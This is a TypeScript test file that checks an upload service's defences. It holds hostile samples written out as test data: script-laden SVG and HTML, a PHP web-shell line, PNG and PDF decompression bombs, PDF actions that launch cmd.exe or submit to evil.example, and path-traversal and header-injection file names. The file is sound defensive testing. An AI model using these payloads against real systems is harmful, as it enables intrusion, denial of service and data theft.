import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { deflateRawSync, deflateSync, constants as zlib } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { fileRefusalWords } from '@/lib/copy/drafts/file-refusal-words';
import { keyOf } from '@/lib/domain/drafts/files/draft-files';
import { photoWidths } from '@/lib/domain/listings/picture-sizes';
import { memoryOf } from '@/lib/server/platform/files/files.contract';
import { examinePdf as readPdf } from '@/lib/server/platform/intake/examine-pdf.mjs';
import { examinePdf, remakePhoto, type WorkerLimits } from '@/lib/server/platform/intake/run-worker';
import { openTestRuntime } from '@/lib/server/platform/runtime/runtime.fixture';
import type { Sending } from './uploads';
import {
  aHeic,
  aPdf,
  aPicture,
  aPng,
  aSending,
  declarationOf,
  documentDeclarationOf,
  now,
  pageObjects,
  plainPdf,
  pngChunk,
  sendWhole,
  sha256Of,
} from './uploads.fixture';

const { store, files, end } = openTestRuntime();
const folder = mkdtempSync(join(tmpdir(), 'hostile-'));
let sending: Sending;
beforeAll(async () => {
  sending = await aSending(store, 'h1');
});
afterAll(async () => {
  rmSync(folder, { recursive: true });
  await end();
});

const MIB = 1024 * 1024;
/** The worker's memory limit, including its own code and libraries. */
const WORKER_AT_MOST = 700 * MIB;

/** The output of `deflateSync` for that many zeros, without compressing each of them. */
function packedZeros(mebibytes: number): Buffer {
  const end = Buffer.from([3, 0, 0, 0, 0, 0]);
  end.writeUInt32BE(((mebibytes * MIB) % 65_521) * 65_536 + 1, 2);
  return Buffer.concat([
    Buffer.from([0x78, 0xda]),
    ...Array.from({ length: mebibytes }, () => packedMebibyte),
    end,
  ]);
}
const packedMebibyte = deflateRawSync(Buffer.alloc(MIB), { level: 9, finishFlush: zlib.Z_FULL_FLUSH });

let count = 0;
const usual: WorkerLimits = { memoryMiB: 640, cpuSeconds: 90, milliseconds: 900_000 };

function jobFor(bytes: Uint8Array, limits?: WorkerLimits) {
  const place = mkdtempSync(join(folder, `${count++}-`));
  writeFileSync(join(place, 'sent'), bytes);
  return { uid: 'ann', path: join(place, 'sent'), folder: place, ...(limits && { limits }) };
}

/** All stored renditions of it. */
async function renditionsOf(bytes: Uint8Array): Promise<Buffer[]> {
  const sent = await sendWhole(sending, bytes);
  if (!sent.ok || sent.value.entry?.purpose !== 'photo') throw new Error(JSON.stringify(sent));
  const { key, width } = sent.value.entry.photo;
  return Promise.all(
    photoWidths(width).flatMap((each) =>
      ['avif', 'webp'].map(async (format) => {
        const file = await files.head(`public/media/h1/${key}-${each}.${format}`);
        const body = file && (await files.get(file));
        if (!body) throw new Error(`${each}.${format} is not there`);
        expect(file.contentType).toBe(`image/${format}`);
        return buffer(body);
      }),
    ),
  );
}

const jpeg = await aPicture().jpeg().toBuffer();
const png = await aPicture().png().toBuffer();
const webp = await aPicture().webp().toBuffer();
const avif = await aPicture().avif().toBuffer();
const gif = await aPicture().gif().toBuffer();
const tiff = await aPicture().tiff().toBuffer();
const halfOf = (bytes: Buffer): Buffer => bytes.subarray(0, bytes.length / 2);
const svg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><script>alert(1)</script></svg>',
);
const zip = Buffer.from('PK\x03\x04\x14\x00\x00\x00payload-of-a-zip PK\x05\x06', 'latin1');
const html = Buffer.from('<html><script>alert(document.domain)</script></html>');

/** A text chunk that inflates to 256 MB. */
function pngWithBomb(): Buffer {
  const bomb = packedZeros(256);
  const text = pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), bomb]));
  return Buffer.concat([png.subarray(0, 33), text, png.subarray(33)]);
}

describe('a file that is not a photo', () => {
  test.each([
    ['an SVG', svg],
    ['an SVG with a declaration', Buffer.concat([Buffer.from('<?xml version="1.0"?>\n'), svg])],
    ['an HTML page', html],
    [
      'an HTML page that starts with a GIF signature and a comment',
      Buffer.concat([Buffer.from('GIF89a/*'), html]),
    ],
    ['a GIF', gif],
    ['a TIFF', tiff],
    ['a BMP', Buffer.from('BM\x00\x00\x00\x00', 'latin1')],
    ['a ZIP', zip],
    ['an executable', Buffer.from('\x7fELF\x02\x01', 'latin1')],
    ['a PDF', aPdf()],
    ['a single byte', Buffer.from([0xff])],
  ])('%s is refused regardless of its file name', async (_what, bytes) => {
    expect(await sendWhole(sending, bytes, declarationOf(bytes, 'front.jpg'))).toEqual({
      ok: false,
      reason: 'not-photo',
    });
  });

  test.each([
    ['a PNG signature before an SVG', Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), svg])],
    ['a JPEG signature before an HTML page', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), html])],
    ['a WebP signature before an HTML page', Buffer.concat([Buffer.from('RIFF\x10\0\0\0WEBPVP8 '), html])],
    [
      'an AVIF signature before an HTML page',
      Buffer.concat([Buffer.from('\0\0\0\x18ftypavif\0\0\0\0mif1avif'), html]),
    ],
    ['half a JPEG', halfOf(jpeg)],
    ['half a PNG', halfOf(png)],
    ['half a WebP', halfOf(webp)],
    ['half an AVIF', halfOf(avif)],
    ['a PNG without its pixels', aPng(4000, 3000, 64)],
  ])('%s is refused as damaged', async (_what, bytes) => {
    expect(await sendWhole(sending, bytes)).toEqual({ ok: false, reason: 'damaged' });
  });

  test("a phone's HEIC is decoded and stored like any photo", async () => {
    const sent = await sendWhole(sending, aHeic);
    expect(sent).toMatchObject({ ok: true, value: { entry: { photo: { width: 320, height: 240 } } } });
  });

  test.each([
    ['cut off', halfOf(aHeic)],
    ['with other bytes in its middle', scrambled(aHeic)],
    ['that claims to be enormous', enlarged(aHeic)],
  ])('a HEIC %s is refused, not decoded', async (_, bytes) => {
    const sent = await sendWhole(sending, bytes);
    expect(['heic', 'too-many-pixels', 'too-heavy']).toContain(sent.ok ? 'stored' : sent.reason);
  });

  test('a HEIC that cannot be decoded is refused with advice', async () => {
    // A phone's container with another codec inside.
    const text = avif
      .toString('latin1')
      .replaceAll('avif', 'heic')
      .replaceAll('av01', 'hvc1')
      .replaceAll('av1C', 'hvcC');
    const bytes = Buffer.from(text.replaceAll('miaf', 'mif1').replaceAll('MA1B', 'heix'), 'latin1');
    expect(await sendWhole(sending, bytes)).toEqual({ ok: false, reason: 'heic' });
  });
});

describe('a decompression bomb', () => {
  test.each([
    ['200 real megapixels', aPng(20_000, 10_000)],
    ['four billion pixels declared by a PNG', aPng(65_536, 65_536, 64)],
    ['65 megapixels', aPng(10_000, 6_500, 64)],
  ])('of %s is refused before its pixels are read', async (_what, bytes) => {
    expect(bytes.length).toBeLessThan(MIB);
    const refused = await remakePhoto(jobFor(bytes));
    expect(refused).toMatchObject({ ok: false, reason: { fault: 'too-many-pixels' } });
    expect(refused.ok || (refused.reason.peakBytes ?? 0)).toBeLessThan(200 * MIB);
  });

  test('as an AVIF is refused at fewer pixels because an AVIF is decoded as a whole', async () => {
    const bytes = await sharp(aPng(6_000, 5_000)).avif({ effort: 0, quality: 10 }).toBuffer();
    expect(await remakePhoto(jobFor(bytes))).toMatchObject({
      ok: false,
      reason: { fault: 'too-many-pixels' },
    });
  });

  test('of 60 megapixels is within the limit and is rendered within one worker’s memory', async () => {
    const made = await remakePhoto(jobFor(aPng(10_000, 6_000)));
    expect(made).toMatchObject({ ok: true, value: { width: 2400, height: 1440 } });
    expect(made.ok && made.value.peakBytes).toBeLessThan(WORKER_AT_MOST);
  });

  test('in a text chunk of an image is not inflated into memory', async () => {
    const made = await remakePhoto(jobFor(pngWithBomb()));
    const peakBytes = made.ok ? made.value.peakBytes : made.reason.peakBytes;
    expect(peakBytes).toBeLessThan(WORKER_AT_MOST);
  });

  test('that exceeds a worker’s memory ends the worker, and the next file is still inspected', async () => {
    const limits = { ...usual, memoryMiB: 96 };
    const refused = await remakePhoto(jobFor(aPng(10_000, 6_000), limits));
    expect(refused.ok).toBe(false);
    expect(await remakePhoto(jobFor(jpeg))).toMatchObject({ ok: true });
  });

  test.each([
    ['too much elapsed time', { milliseconds: 50 }],
    ['too much processor time', { cpuSeconds: 1 }],
  ])('that takes %s ends the worker', async (_, limit) => {
    const noise = { type: 'gaussian', mean: 128, sigma: 60 } as const;
    const background = { r: 0, g: 0, b: 0 };
    const picture = sharp({ create: { width: 2_400, height: 1_600, channels: 3, background, noise } });
    const file = await picture.jpeg().toBuffer();
    expect(await remakePhoto(jobFor(file, { ...usual, ...limit }))).toEqual({
      ok: false,
      reason: { fault: 'too-heavy', peakBytes: null },
    });
  });

  test('barely affects the server process', async () => {
    const bytes = Buffer.concat([aPng(10_000, 6_000), Buffer.alloc(20 * MIB)]);
    const used = await memoryOf(async (look) => {
      const timer = setInterval(look, 20);
      await remakePhoto(jobFor(bytes));
      clearInterval(timer);
    });
    expect(used).toBeLessThan(96 * MIB);
  });
});

const xmp = '<x:xmpmeta xmlns:x="adobe:ns:meta/"><secret-xmp exif:GPSLatitude="40,42N"/></x:xmpmeta>';
const withEverything = await aPicture(1000, 500)
  .withExif({
    IFD0: { Make: 'Canon of Somebody', Orientation: '6' },
    IFD3: {
      GPSLatitudeRef: 'N',
      GPSLatitude: '40/1 42/1 51/1',
      GPSLongitudeRef: 'W',
      GPSLongitude: '74/1 0/1 21/1',
    },
  })
  .withXmp(xmp)
  .withIccProfile('p3')
  .withMetadata({ orientation: 6 })
  .jpeg()
  .toBuffer();

describe('the metadata of a photo', () => {
  const secrets = [
    'GPSLatitude',
    '40/1 42/1',
    'Canon of Somebody',
    'secret-xmp',
    'payload-of-a-zip',
    '<script',
    '<?php',
  ];
  const comment = Buffer.from('\xff\xfe\x00\x1b<script>alert(1)</script>', 'latin1');
  const hidden = Buffer.concat([
    withEverything.subarray(0, 2),
    comment,
    withEverything.subarray(2),
    zip,
    html,
    Buffer.from('<?php system($_GET[0]);'),
  ]);

  test('is in the uploaded file', async () => {
    const { exif, xmp: found, icc, orientation } = await sharp(withEverything).metadata();
    expect([exif, found, icc].every(Boolean)).toBe(true);
    expect(orientation).toBe(6);
    expect(hidden.includes('payload-of-a-zip') && hidden.includes('<script')).toBe(true);
  });

  test('is in none of the stored images: no location, camera, profile, ZIP or script', async () => {
    const renditions = await renditionsOf(hidden);
    expect(renditions).toHaveLength(4);
    for (const picture of renditions) {
      const { exif, xmp, iptc, icc, comments } = await sharp(picture).metadata();
      expect([exif, xmp, iptc, icc, comments]).toEqual([
        undefined,
        undefined,
        undefined,
        undefined,
        undefined,
      ]);
      for (const secret of secrets) expect(picture.includes(secret), secret).toBe(false);
      expect(picture.includes(Buffer.from('PK\x03\x04', 'latin1'))).toBe(false);
    }
  });

  test('orientation is applied before it is removed', async () => {
    const sent = await sendWhole(sending, hidden);
    expect(sent).toMatchObject({ ok: true, value: { entry: { photo: { width: 500, height: 1000 } } } });
    for (const picture of await renditionsOf(hidden)) {
      const { width, height } = await sharp(picture).metadata();
      expect(height / width).toBeCloseTo(2, 1);
    }
  });

  test('text chunks of a PNG are removed too, and transparent areas turn white', async () => {
    const clear = await sharp({ create: { width: 300, height: 300, channels: 4, background: '#00000000' } })
      .withExif({ IFD0: { Make: 'Canon of Somebody' } })
      .png()
      .toBuffer();
    for (const picture of await renditionsOf(clear)) {
      expect(picture.includes('Canon')).toBe(false);
      const { channels, dominant } = await sharp(picture)
        .stats()
        .then((stats) => ({ ...stats, channels: stats.channels.length }));
      expect(channels).toBe(3);
      expect(dominant.r + dominant.g + dominant.b).toBeGreaterThan(3 * 240);
    }
  });

  test('of an animation only the first frame is stored', async () => {
    const frames = await sharp({ create: { width: 300, height: 900, channels: 3, background: '#c00' } })
      .composite([
        {
          input: { create: { width: 300, height: 600, channels: 3, background: '#00c' } },
          left: 0,
          top: 300,
        },
      ])
      .raw()
      .toBuffer();
    const animated = await sharp(frames, { raw: { width: 300, height: 900, channels: 4, pageHeight: 300 } })
      .webp({ loop: 0, delay: [100, 100, 100] })
      .toBuffer();
    expect((await sharp(animated, { animated: true }).metadata()).pages).toBe(2);
    for (const picture of await renditionsOf(animated)) {
      const { pages = 1, width, height } = await sharp(picture, { animated: true }).metadata();
      expect([pages, width, height]).toEqual([1, 300, 300]);
      expect((await sharp(picture).stats()).dominant.b).toBeLessThan(64);
    }
  });

  test('print colors are converted to screen colors', async () => {
    for (const picture of await renditionsOf(
      await aPicture(320, 240).toColourspace('cmyk').jpeg().toBuffer(),
    ))
      expect((await sharp(picture).metadata()).space).toBe('srgb');
  });

  test('a photo too small to be useful is refused', async () => {
    const bytes = await aPicture(199, 300).jpeg().toBuffer();
    expect(await sendWhole(sending, bytes)).toEqual({ ok: false, reason: 'too-small' });
  });
});

test.each([
  '../../../etc/passwd',
  '/etc/passwd',
  '<script>alert(1)</script>.jpg',
  'a\0b.jpg',
  'front.jpg\r\nset-cookie: a=b',
  'x'.repeat(300),
  '',
])('the file name %j is not used in any path', async (name) => {
  const bytes = await aPicture(201, 201 + name.length)
    .jpeg()
    .toBuffer();
  expect((await sendWhole(sending, bytes, declarationOf(bytes, name))).ok).toBe(true);
  const key = keyOf(sha256Of(bytes));
  for await (const { path } of files.list('public/'))
    expect(path).toMatch(/^public\/media\/h1\/[0-9a-f]{24}-\d+\.(avif|webp)$/);
  expect(await files.head(`public/media/h1/${key}-201.webp`)).not.toBeNull();
});

const action = (dictionary: string): readonly string[] => [
  `<< /Type /Catalog /Pages 2 0 R /OpenAction ${dictionary} >>`,
  ...pageObjects,
];
const catalog = (more: string): readonly string[] => [
  `<< /Type /Catalog /Pages 2 0 R ${more} >>`,
  ...pageObjects,
];
const aStream = (dictionary: string, data: Buffer | string): string => {
  const text = Buffer.from(data as string).toString('latin1');
  return `<< ${dictionary} /Length ${Buffer.from(data as string).length} >>\nstream\n${text}\nendstream`;
};
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const objectStream = (object: string) =>
  aStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.from(`9 0 ${object}`)));

const packed = (data: Buffer, filter = '/FlateDecode'): string => aStream(`/Filter ${filter}`, data);

/** Inspects it as the site does: in a separate process. */
async function examine(bytes: Uint8Array) {
  const examined = await examinePdf(jobFor(bytes));
  return examined.ok ? 'fine' : examined.reason.fault;
}

/** The same rules in this process, for harmless files. */
const examineHere = async (bytes: Uint8Array) => (await readPdf(bytes)).refused ?? 'fine';

describe('a PDF', () => {
  test('without active content is stored byte for byte', async () => {
    const bytes = aPdf();
    const sent = await sendWhole(sending, bytes, documentDeclarationOf(bytes));
    expect(sent).toMatchObject({
      ok: true,
      value: { entry: { document: { bytes: bytes.length, isPublic: true } } },
    });
    const file = await files.head(`private/documents/h1/${keyOf(sha256Of(bytes))}.pdf`);
    expect(file?.sha256).toBe(sha256Of(bytes));
  });

  test('from an ordinary program, with object streams and a form, is accepted', async () => {
    const document = await PDFDocument.create();
    document.addPage().drawText('Terms of sale');
    document.getForm().createTextField('name').addToPage(document.addPage());
    expect(await examine(await document.save())).toBe('fine');
    expect(await examine(await document.save({ useObjectStreams: false }))).toBe('fine');
  });

  test('with a script that runs on opening is refused by the inspecting process', async () => {
    expect(await examine(aPdf(action(script)))).toBe('active-content');
  });

  test.each([
    ['a script whose name is escaped', aPdf(action('<< /S /J#61v#61Script /J#53 (x) >>'))],
    [
      'a script in its name dictionary',
      aPdf(catalog(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`)),
    ],
    ['a script on an annotation', aPdf([...plainPdf, `<< /Type /Annot /A ${script} >>`])],
    ['a launch action', aPdf(action('<< /S /Launch /F (cmd.exe) >>'))],
    ['a form submission', aPdf(action('<< /S /SubmitForm /F (http://evil.example) >>'))],
    ['a data import', aPdf(action('<< /S /ImportData /F (a.fdf) >>'))],
    ['a jump to another file', aPdf(action('<< /S /GoToR /F (\\\\\\\\evil.example\\\\a) /D [0 /Fit] >>'))],
    [
      'an embedded file',
      aPdf([
        ...catalog('/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>'),
        aStream('/Type /EmbeddedFile', 'MZ'),
      ]),
    ],
    ['rich media', aPdf([...plainPdf, '<< /Type /Annot /Subtype /RichMedia >>'])],
    ['an XFA form', aPdf(catalog('/AcroForm << /XFA [(a) 4 0 R] >>'))],
    [
      'a URL that opens after a jump to a page',
      aPdf(action('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example) >> >>')),
    ],
    [
      'a print command at the end of an action chain',
      aPdf([
        ...action('<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>'),
        '[<< /S /GoTo /D [3 0 R /Fit] >> 5 0 R]',
        '<< /S /Named /N /Print >>',
      ]),
    ],
    ['a URL that opens automatically', aPdf(action('<< /S /URI /URI (http://evil.example) >>'))],
    [
      'an action when a page is shown',
      aPdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        pageObjects[0],
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA << /O 4 0 R >> >>',
        '<< /S /URI /URI (http://evil.example) >>',
      ]),
    ],
    ['a script in an object stream', aPdf([...plainPdf, objectStream(script)])],
    [
      'a script in an object that a later one replaces',
      Buffer.concat([
        aPdf([...plainPdf, script]),
        Buffer.from('4 0 obj\n<< >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 5 >>\nstartxref\n0\n%%EOF\n'),
      ]),
    ],
    ['a script inside a plain stream', aPdf([...plainPdf, aStream('', `9 0 obj\n${script}\nendobj`)])],
  ])('with %s is refused', async (_what, bytes) => {
    expect(await examineHere(bytes)).toBe('active-content');
  });

  test.each([
    ['a ZIP after it', Buffer.concat([aPdf(), zip])],
    [
      'an object stream inside a plain stream',
      aPdf([...plainPdf, aStream('', Buffer.from(`9 0 obj\n${objectStream('<< >>')}\nendobj`, 'latin1'))]),
    ],
  ])('with %s is refused', async (_what, bytes) => {
    expect(await examineHere(bytes)).toBe('hidden-content');
  });

  test.each([
    [
      'a link to click',
      aPdf([...plainPdf, '<< /Type /Annot /A << /S /URI /URI (https://example.com) >> >>']),
    ],
    ['an initial view', aPdf(action('[3 0 R /Fit]'))],
    ['a jump to a page on opening', aPdf(action('<< /S /GoTo /D [3 0 R /Fit] >>'))],
    [
      'a cycle of jumps on opening',
      aPdf([
        ...action('4 0 R'),
        '<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>',
        '<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>',
      ]),
    ],
    ['an empty stream', aPdf([...plainPdf, packed(Buffer.alloc(0))])],
    ['a full-page scan', aPdf([...plainPdf, packed(packedZeros(100))])],
  ])('with %s is accepted', async (_what, bytes) => {
    expect(await examineHere(bytes)).toBe('fine');
  });

  const withWrongSum = (bytes: Buffer): Buffer => Buffer.concat([bytes.subarray(0, -4), Buffer.from('sums')]);
  const damagedAtEnd = Buffer.concat([
    deflateSync(Buffer.alloc(MIB), { finishFlush: zlib.Z_SYNC_FLUSH }),
    Buffer.alloc(8, 0xff),
  ]);
  const oneBomb = packedZeros(129);
  test.each([
    ['one stream', aPdf([...plainPdf, packed(oneBomb)])],
    [
      'a stream with a wrong checksum',
      aPdf([...plainPdf, packed(withWrongSum(deflateSync(oneBomb)), '[/Fl /Fl]')]),
    ],
    ['a stream that is damaged after its start', aPdf([...plainPdf, packed(damagedAtEnd)])],
    ['a stream after a filter that does nothing', aPdf([...plainPdf, packed(oneBomb, '[/Crypt /Fl]')])],
    ['many streams', aPdf([...plainPdf, ...Array.from({ length: 6 }, () => packed(packedZeros(100)))])],
    ['a stream compressed twice', aPdf([...plainPdf, packed(deflateSync(oneBomb), '[/FlateDecode /Fl]')])],
    [
      'a stream in hexadecimal',
      aPdf([...plainPdf, packed(Buffer.from(`${oneBomb.toString('hex')}>`), '[/AHx /Fl]')]),
    ],
    ['a stream with five compression filters', aPdf([...plainPdf, packed(oneBomb, '[/Fl /Fl /Fl /Fl /Fl]')])],
  ])(
    'that inflates beyond the limit by %s is refused',
    async (_what, bytes) => {
      expect(bytes.length).toBeLessThan(MIB);
      expect(await examine(bytes)).toBe('unpacks-too-far');
    },
    60_000,
  );

  test('is refused with the reason and instructions for a clean one', () => {
    for (const reason of ['active-content', 'hidden-content', 'unpacks-too-far'] as const)
      expect(fileRefusalWords[reason]).toMatch(/^This PDF .*Print to PDF, and upload the new file\.$/);
  });

  test('with an HTML page before it is not a PDF', async () => {
    const bytes = Buffer.concat([html, aPdf()]);
    expect(await sendWhole(sending, bytes, documentDeclarationOf(bytes))).toEqual({
      ok: false,
      reason: 'not-pdf',
    });
    expect(await sendWhole(sending, jpeg, documentDeclarationOf(jpeg))).toEqual({
      ok: false,
      reason: 'not-pdf',
    });
  });

  test.each([
    [
      'with a password',
      'encrypted',
      aPdf(plainPdf, '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>'),
    ],
    ['cut off in the middle', 'damaged', aPdf().subarray(0, 120)],
    ['cut off before its end', 'damaged', aPdf().subarray(0, -8)],
    ['with only a header', 'damaged', Buffer.from('%PDF-1.7\n%%EOF\n')],
    [
      'without a page',
      'damaged',
      aPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    ],
    ['with an object that cannot be read', 'damaged', aPdf([...plainPdf, '<< /A (no end'])],
  ])('%s is refused as %s', async (_what, reason, bytes) => {
    expect(await examine(bytes)).toBe(reason);
  });

  test('that inflates without end is stopped without affecting the server', async () => {
    const bomb = packedZeros(700);
    const bytes = aPdf([...plainPdf, aStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb)]);
    const job = jobFor(bytes);
    const used = await memoryOf(async (look) => {
      const timer = setInterval(look, 20);
      const examined = await examinePdf(job);
      clearInterval(timer);
      expect(examined.ok).toBe(false);
      if (!examined.ok) expect(examined.reason.peakBytes ?? 0).toBeLessThan(WORKER_AT_MOST);
    });
    expect(used).toBeLessThan(64 * MIB);
  });

  test('with a future date is refused before the upload', async () => {
    const bytes = aPdf([...plainPdf, '<< >>']);
    const declaration = { ...documentDeclarationOf(bytes), asOf: now + 3 * 86_400_000 };
    expect(await sendWhole(sending, bytes, declaration)).toEqual({ ok: false, reason: 'not-yet' });
  });
});

/** Zeros over the coded picture. */
function scrambled(bytes: Buffer): Buffer {
  const changed = Buffer.from(bytes);
  return changed.fill(0, changed.indexOf('mdat') + 4);
}

/** With a width and a height of 30,000 pixels in its properties. */
function enlarged(bytes: Buffer): Buffer {
  const changed = Buffer.from(bytes);
  for (let at = changed.indexOf('ispe'); at >= 0; at = changed.indexOf('ispe', at + 4)) {
    changed.writeUInt32BE(30_000, at + 8);
    changed.writeUInt32BE(30_000, at + 12);
  }
  return changed;
}
